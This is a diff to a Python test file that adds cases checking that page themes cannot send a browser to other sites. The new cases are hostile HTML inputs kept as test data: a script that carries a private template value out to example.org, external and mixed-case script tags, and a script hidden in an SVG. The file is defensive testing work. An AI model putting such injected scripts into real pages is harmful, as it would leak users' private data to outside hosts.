@@ -103,7 +103,7 @@ def test_texts_stay_texts_whatever_a_theme_does() -> None:
     assert "&lt;b&gt;" in text
 
 
-_HEAD = """<!doctype html>
+_HEAD = """<!DOCTYPE html>
 <html lang="en">
 <head>
 <meta charset="utf-8">
@@ -134,6 +134,10 @@ def own_page(more: str = "", policy: str = _POLICY) -> dict[str, str]:
         own_page('<link rel="dns-prefetch" href="https://example.org">'),
         own_page("<link rel=preconnect href=//example.org>"),
         own_page('<base href="https://example.org/">'),
+        own_page("<script>location = 'https://example.org/?{{ view.private }}'</script>"),
+        own_page('<script src="../another/site.js"></script>'),
+        own_page('<script src="{{ script }}" defer></script><SCRIPT SRC="a.js"></SCRIPT>'),
+        own_page('<svg aria-hidden="true"><script href="a.js"/></svg>'),
     ],
 )
 def test_no_theme_sends_a_browser_elsewhere(theme: dict[str, str]) -> None:
